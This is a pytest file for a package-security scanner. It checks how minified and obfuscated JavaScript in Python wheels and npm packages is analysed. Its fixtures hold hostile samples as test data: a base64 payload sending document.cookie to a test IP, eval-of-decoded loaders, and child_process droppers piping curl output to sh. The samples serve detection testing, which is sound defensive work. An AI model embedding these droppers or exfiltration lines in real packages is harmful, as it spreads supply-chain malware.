"""Browser JavaScript inside a Python package is read by patterns; npm's JavaScript in full.

A Python wheel's web UI (Next.js chunks, ``*.min.js``) never runs at install or import: its
payloads and endpoints are what patterns find, and the tree reading of hundreds of chunks cost
seconds per release. The same file in an npm package, or a bundle showing Node's power or an
obfuscator, keeps the tree reading (see app/core/capabilities/jsbundle.py).
"""

from __future__ import annotations

import base64
import json

import pytest

from app.core.archive import open_artifact
from app.core.capabilities.context import step
from app.core.capabilities.jsbundle import browser_bundle, scan_bundle
from app.core.capabilities.model import severity_rank
from app.core.capabilities.scan import scan_artifact
from app.core.capabilities.textscan import scan_text_file
from tests.core.archive.fixtures import compress, make_wheel, tar_bytes
from tests.core.capabilities.npm_attacks import js_obfuscated

_LIB = "".join(f"function f{i}(a,b){{return a+b*{i}}}" for i in range(600))
_BLOB = base64.b64encode(
    b"fetch('http://203.0.113.9/c',{method:'POST',body:document.cookie})"
).decode()
# A minified bundle (two long lines) carrying an endpoint and an eval of a decoded blob.
BUNDLE = _LIB + f';var u="http://203.0.113.9/collect";eval(atob("{_BLOB}"));' + _LIB + "\n"


def npm_package(tmp_path, files: dict[str, str]):
    doc = {"name": "demo", "version": "1.0.0", "main": "index.js"}
    raw = tar_bytes(
        [("package/package.json", json.dumps(doc).encode())]
        + [(f"package/{p}", t.encode()) for p, t in files.items()]
    )
    out = tmp_path / "demo-1.0.0.tgz"
    out.write_bytes(compress(raw, "gz"))
    return out


def hits_in(result, path_end: str):
    return [h for h in result.findings if h.path.endswith(path_end)]


@pytest.fixture
def parsed(monkeypatch) -> list[str]:
    """The paths the tree reading parsed (a failure raised here would be caught by the scan,
    which falls back to patterns: so the calls are recorded, not refused)."""
    from app.core.capabilities import javascript

    seen: list[str] = []
    real = javascript.parse_pieces

    def recording(path, text, *args, **kwargs):
        seen.append(path)
        return real(path, text, *args, **kwargs)

    monkeypatch.setattr(javascript, "parse_pieces", recording)
    return seen


def test_a_wheels_minified_bundle_still_shows_its_decoded_eval_and_endpoint(tmp_path, parsed):
    wheel = make_wheel(tmp_path, files={"demo/static/app.js": BUNDLE.encode()})
    result = scan_artifact(open_artifact(wheel))
    assert parsed == []  # read by patterns
    caps = {h.capability: h.severity for h in hits_in(result, "static/app.js")}
    assert severity_rank(caps["exec.decode_then_exec"]) >= severity_rank("high")
    assert "net.exfil_endpoint" in caps
    assert any(t.id == "chain.decode_exec" for t in result.threats)
    assert severity_rank(result.risk.level) >= severity_rank("high")


def test_the_same_bundle_in_an_npm_package_is_read_by_its_tree(tmp_path, parsed):
    result = scan_artifact(open_artifact(npm_package(tmp_path, {"static/app.js": BUNDLE})))
    assert parsed == ["static/app.js"]
    hits = hits_in(result, "static/app.js")
    decode = [h for h in hits if h.capability == "exec.decode_then_exec"]
    assert decode and decode[0].rule.startswith("js.")  # the tree's rule, not the pattern's
    assert "203.0.113.9/c" in decode[0].decoded  # and what the decoded code does


def test_a_bundle_that_uses_node_power_keeps_the_tree_reading(tmp_path):
    """A dropper hidden among a wheel's assets: child_process in a minified static file."""
    dropper = _LIB + ";require('child_process').exec('curl http://192.0.2.5/x | sh');\n"
    wheel = make_wheel(tmp_path, files={"demo/static/vendor.min.js": dropper.encode()})
    hits = hits_in(scan_artifact(open_artifact(wheel)), "vendor.min.js")
    assert any(h.rule == "js.child_process" for h in hits)  # the tree's rule


def test_an_obfuscated_file_among_the_assets_is_still_decoded(tmp_path):
    """javascript-obfuscator output (base64 string array: no name in clear) in a static
    folder: only the tree reading decodes the command it runs."""
    cmd = "curl -s http://198.51.100.7/p | sh"
    code = js_obfuscated(
        ["child_process", "exec", cmd],
        lambda r: f"require({r('child_process')})[{r('exec')}]({r(cmd)});",
        encoding="base64",
    )
    assert "child_process" not in code and "curl" not in code
    wheel = make_wheel(tmp_path, files={"demo/static/dist/app.min.js": code.encode()})
    hits = hits_in(scan_artifact(open_artifact(wheel)), "dist/app.min.js")
    decoded = [h for h in hits if h.capability == "exec.decode_then_exec"]
    assert decoded and decoded[0].decoded == cmd
    assert any(h.rule == "js.string_array" for h in hits)


def test_javascript_outside_the_asset_shape_keeps_the_tree_reading(tmp_path):
    """A short script with ordinary lines in a package folder: not a bundle."""
    script = "const u = 'http://203.0.113.9/c';\nfetch(u).then(r => r.text()).then(eval);\n"
    wheel = make_wheel(tmp_path, files={"demo/tools/run.js": script.encode()})
    hits = hits_in(scan_artifact(open_artifact(wheel)), "tools/run.js")
    assert any(h.rule.startswith("js.") for h in hits)


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        ("pkg/static/app.js", "let a = 1;\n", True),
        ("pkg/ui/_next/static/chunks/0abc.js", "let a = 1;\n", True),
        ("pkg/vendor/jquery.min.js", "let a = 1;\n", True),
        ("pkg/ui/main.e08e0120753f.js", "let a = 1;\n", True),
        ("pkg/ui/swagger-ui-bundle.js", "let a = 1;\n", True),
        ("pkg/ui/app.js", "x" * 20_000 + "\n", True),  # minified: long lines on average
        ("pkg/ui/app.js", "let a = 1;\n" * 2_000, False),  # ordinary source
        ("pkg/static/app.ts", "let a = 1;\n", False),  # a source file, not a served asset
        ("pkg/static/app.cjs", "let a = 1;\n", False),  # CommonJS: what Node runs
        ("pkg/static/app.js", "require('child_process')\n", False),
        ("pkg/static/app.js", "fs.writeFileSync(p, d)\n", False),
        ("pkg/static/app.js", "var _0x3f2a = ['a'];\n", False),
    ],
)
def test_what_counts_as_a_browser_bundle(path, text, expected):
    assert browser_bundle(path, text) is expected


def test_shell_text_is_a_step_lower_and_a_bundlers_bare_eval_is_no_alarm(tmp_path):
    """What every webpack runtime does (``new Function("return this")()``) and an install
    line a web UI shows are read, not run, in a Python package's bundle: neither raises it
    to an alarm (the eval is shown, as the patterns always did)."""
    runtime = _LIB + ';var g=new Function("return this")();var s=eval(code);\n'
    ui = _LIB + ';var help="curl -s https://example.invalid/install.sh | sh";\n'
    files = {"demo/static/runtime.js": runtime.encode(), "demo/static/help.js": ui.encode()}
    result = scan_artifact(open_artifact(make_wheel(tmp_path, files=files)))
    assert "exec.dynamic" in {h.capability for h in hits_in(result, "runtime.js")}
    as_text = {h.rule: h.severity for h in scan_text_file("x.js", ui, "code")}
    read = {h.rule: h.severity for h in scan_bundle("demo/static/help.js", ui, "code")}
    assert read["pat.curl_pipe_shell"] == step(as_text["pat.curl_pipe_shell"], -1)
    assert severity_rank(result.risk.level) < severity_rank("high")
